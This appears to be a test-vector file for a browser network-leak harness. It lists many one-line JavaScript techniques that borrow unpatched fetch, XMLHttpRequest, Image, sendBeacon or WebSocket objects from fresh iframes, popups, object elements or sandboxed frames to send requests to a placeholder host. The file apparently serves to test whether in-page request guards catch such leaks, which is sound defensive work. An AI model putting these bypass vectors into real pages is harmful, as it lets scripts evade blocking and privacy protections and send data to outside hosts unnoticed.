// channel: pristine natives of other realms
// vector realm-blank-fetch
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-blank-fetch-borrowed
const f = document.createElement("iframe"); document.body.append(f); const { fetch } = f.contentWindow; fetch.call(window, "{t}/a.txt", { mode: "no-cors" });
// vector realm-blank-xhr
const f = document.createElement("iframe"); document.body.append(f); const x = new f.contentWindow.XMLHttpRequest(); x.open("GET", "{t}/a.txt"); x.send();
// vector realm-blank-image
const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.Image().src = "{t}/a.png";
// vector realm-blank-beacon
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.navigator.sendBeacon("{t}/a.txt");
// vector realm-blank-beacon-borrowed
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.Navigator.prototype.sendBeacon.call(navigator, "{t}/a.txt");
// vector realm-blank-websocket
const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.WebSocket("{w}/a");
// vector realm-blank-eventsource
const f = document.createElement("iframe"); document.body.append(f); new f.contentWindow.EventSource("{t}/a.sse");
// vector realm-blank-default-view
const f = document.createElement("iframe"); document.body.append(f); f.contentDocument.defaultView.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-window-index
document.body.append(document.createElement("iframe")); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-frames
const f = document.createElement("iframe"); f.name = "w-{id}"; document.body.append(f); frames["w-{id}"].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-named-window
const f = document.createElement("iframe"); f.name = leak.unique("w_{i}"); document.body.append(f); window[f.name].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-self-index
document.body.append(document.createElement("iframe")); self.top[top.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-inner-html-index
leak.box().innerHTML = "<iframe></iframe>"; window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-adjacent-html-index
leak.box().insertAdjacentHTML("beforeend", "<iframe></iframe>"); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-adopted-fragment-index
leak.box().append(document.createRange().createContextualFragment("<p><iframe></iframe></p>")); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-write-index once
document.write("<iframe></iframe>"); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-shadow-index
const f = document.createElement("iframe"); leak.box().attachShadow({ mode: "closed" }).append(f); f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-shadow-inner
const r = leak.box().attachShadow({ mode: "open" }); r.innerHTML = "<iframe></iframe>"; r.firstChild.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-nested
const f = document.createElement("iframe"); document.body.append(f); const g = f.contentDocument.createElement("iframe"); f.contentDocument.body.append(g); g.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-nested-index
const f = document.createElement("iframe"); document.body.append(f); f.contentDocument.body.innerHTML = "<iframe></iframe>"; f.contentWindow[0].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-nested-element
const f = document.createElement("iframe"); document.body.append(f); const i = f.contentDocument.createElement("img"); i.src = "{t}/a.png";
// vector realm-nested-script
const f = document.createElement("iframe"); document.body.append(f); const s = f.contentDocument.createElement("script"); s.src = "{t}/a.js"; f.contentDocument.body.append(s);
// vector realm-nested-eval
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.eval("fetch('{t}/a.txt', { mode: 'no-cors' })");
// vector realm-nested-function
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.Function("new Image().src = '{t}/a.png'")();
// vector realm-nested-inline
const f = document.createElement("iframe"); document.body.append(f); const s = f.contentDocument.createElement("script"); s.textContent = "fetch('{t}/a.txt', { mode: 'no-cors' })"; f.contentDocument.body.append(s);
// vector realm-srcdoc
const f = document.createElement("iframe"); f.srcdoc = "<p>a"; f.onload = () => f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(f);
// vector realm-srcdoc-at-once
const f = document.createElement("iframe"); f.srcdoc = "<p>a"; document.body.append(f); const w = f.contentWindow; setTimeout(() => w.fetch("{t}/a.txt", { mode: "no-cors" }), 200);
// vector realm-blob
const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<p>a"], { type: "text/html" })); f.onload = () => f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(f);
// vector realm-blob-own-script
const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>fetch('{t}/a.txt', { mode: 'no-cors' })<" + "/script>"], { type: "text/html" })); document.body.append(f);
// vector realm-javascript
const f = document.createElement("iframe"); f.src = "javascript:'<p>a'"; f.onload = () => f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(f);
// vector realm-first-party-page
const f = document.createElement("iframe"); f.src = "/fp/empty.html"; f.onload = () => f.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(f);
// vector realm-first-party-page-image
const f = document.createElement("iframe"); f.src = "/fp/empty.html"; f.onload = () => { const i = f.contentDocument.createElement("img"); i.src = "{t}/a.png"; f.contentDocument.body.append(i); }; document.body.append(f);
// vector realm-object
const o = document.createElement("object"); o.type = "text/html"; o.data = "/fp/empty.html"; o.onload = () => o.contentWindow.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(o);
// vector realm-object-document
const o = document.createElement("object"); o.type = "text/html"; o.data = "/fp/empty.html"; o.onload = () => { o.contentDocument.body.innerHTML = "<img src='{t}/a.png'>"; }; document.body.append(o);
// vector realm-embed-svg-document
const o = document.createElement("embed"); o.type = "image/svg+xml"; o.src = "/fp/empty.svg"; o.onload = () => o.getSVGDocument().defaultView.fetch("{t}/a.txt", { mode: "no-cors" }); document.body.append(o);
// vector realm-borrowed-setter
const f = document.createElement("iframe"); document.body.append(f); Object.getOwnPropertyDescriptor(f.contentWindow.HTMLImageElement.prototype, "src").set.call(new Image(), "{t}/a.png");
// vector realm-borrowed-inner-html
const f = document.createElement("iframe"); document.body.append(f); Object.getOwnPropertyDescriptor(f.contentWindow.Element.prototype, "innerHTML").set.call(leak.box(), "<img src='{t}/a.png'>");
// vector realm-borrowed-set-attribute
const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.Element.prototype.setAttribute.call(new Image(), "src", "{t}/a.png");
// vector realm-borrowed-append
const f = document.createElement("iframe"); document.body.append(f); const s = document.createElement("script"); s.src = "{t}/a.js"; f.contentWindow.Node.prototype.appendChild.call(document.head, s);
// vector realm-removed-frame
const f = document.createElement("iframe"); document.body.append(f); const i = new f.contentWindow.Image(); f.remove(); i.src = "{t}/a.png";
// vector realm-custom-element-frame
const f = document.createElement("iframe"); leak.box().append(f); const { prototype: p } = f.contentWindow.XMLHttpRequest; const x = new XMLHttpRequest(); p.open.call(x, "GET", "{t}/a.txt"); p.send.call(x);
// vector realm-window-open
const w = window.open("about:blank", leak.unique("p-{id}")); w.fetch("{t}/a.txt", { mode: "no-cors" }); setTimeout(() => w.close(), 800);
// vector realm-window-open-empty
const w = window.open("", leak.unique("p-{id}")); new w.Image().src = "{t}/a.png"; setTimeout(() => w.close(), 800);
// vector realm-window-open-write
const w = window.open("", leak.unique("p-{id}")); w.document.write("<img src='{t}/a.png'>"); setTimeout(() => w.close(), 800);
// vector realm-window-open-first-party
const w = window.open("/fp/inline.html?u={u}/a.txt", leak.unique("p-{id}")); setTimeout(() => w.close(), 1200);
// vector realm-window-open-third-party
const w = window.open("{t}/a.html", leak.unique("p-{id}")); setTimeout(() => w.close(), 800);
// vector realm-document-picture
const d = await documentPictureInPicture.requestWindow(); d.fetch("{t}/a.txt");
// vector realm-exec-command-index once
const b = leak.box(), n = window.length; b.contentEditable = "true"; b.focus(); getSelection().selectAllChildren(b); document.execCommand("insertHTML", false, "<iframe></iframe>"); window[window.length - 1].fetch("{t}/a.txt", { mode: "no-cors" });
// vector realm-frame-load-index
const f=document.createElement('iframe');f.onload=()=>window[window.length-1].fetch('{t}/a.txt',{mode:'no-cors'});leak.box().append(f);
// vector realm-frame-load-name
const f=document.createElement('iframe');f.name=leak.unique('w');f.addEventListener('load',()=>window[f.name].fetch('{t}/a.txt',{mode:'no-cors'}));leak.box().append(f);
// vector realm-frame-beside-element-html
const n='new-y-'+Math.random().toString(36).slice(2);customElements.define(n,class extends HTMLElement{connectedCallback(){new window[window.length-1].Image().src='{t}/a.png'}});leak.box().innerHTML='<iframe></iframe><'+n+'></'+n+'>';
// vector realm-frame-load-html-index
leak.box().innerHTML='<iframe onload="window[window.length-1].fetch(\'{t}/a.txt\',{mode:\'no-cors\'})"></iframe>';
// vector realm-frame-slot-event
const h=leak.box().attachShadow({mode:'closed'});h.innerHTML='<slot></slot>';const f=document.createElement('iframe');f.onload=e=>e.target.getRootNode().defaultView===window&&frames[frames.length-1].navigator.sendBeacon('{t}/a.txt');h.host.append(f);
// vector realm-object-load-index
const o=document.createElement('object');o.type='text/html';o.data='about:blank';o.onload=()=>window[window.length-1].fetch('{t}/a.txt',{mode:'no-cors'});leak.box().append(o);
// vector realm-frame-of-frame-load
const f=document.createElement('iframe');leak.box().append(f);const g=f.contentDocument.createElement('iframe');g.onload=()=>f.contentWindow[0].fetch('{t}/a.txt',{mode:'no-cors'});f.contentDocument.body.append(g);
// vector realm-frame-document-name
const f=document.createElement('iframe');f.onload=function(){self[document.querySelectorAll('iframe').length&&window.length-1].navigator.sendBeacon('{t}/a.txt')};leak.box().prepend(f);
// vector realm-frame-load-parent-listener
const b=leak.box();b.addEventListener('load',()=>{const w=window[window.length-1];const x=new w.XMLHttpRequest;x.open('GET','{t}/a.txt');x.send()},true);b.append(document.createElement('iframe'));
// vector realm-frame-load-borrowed
const f=document.createElement('iframe'),b=leak.box();let w;f.onload=()=>{w=window[window.length-1].fetch};b.append(f);w.call(window,'{t}/a.txt',{mode:'no-cors'});
// vector sandboxed-code-leads-itself
const f=document.createElement('iframe');f.sandbox='allow-scripts';f.srcdoc="<script>location='{t}/a.html'<\/script>";leak.box().append(f);
// vector sandboxed-code-sends-form
const f=document.createElement('iframe');f.sandbox='allow-scripts allow-forms';f.srcdoc="<form action='{t}/a.html'></form><script>document.forms[0].submit()<\/script>";leak.box().append(f);
// vector sandboxed-code-clicks
const f=document.createElement('iframe');f.sandbox='allow-scripts';f.srcdoc="<a href='{t}/a.html'>x</a><script>document.links[0].click()<\/script>";leak.box().append(f);
// vector sandboxed-code-opens
const f=document.createElement('iframe');f.sandbox='allow-scripts allow-popups';f.srcdoc="<script>var w=open('{t}/a.html');setTimeout(function(){w&&w.close()},900)<\/script>";leak.box().append(f);
// vector sandboxed-code-preconnects
const f=document.createElement('iframe');f.sandbox='allow-scripts';f.srcdoc="<script>var l=document.createElement('link');l.rel='preconnect';l.href='{h}';document.head.append(l)<\/script>";leak.box().append(f);
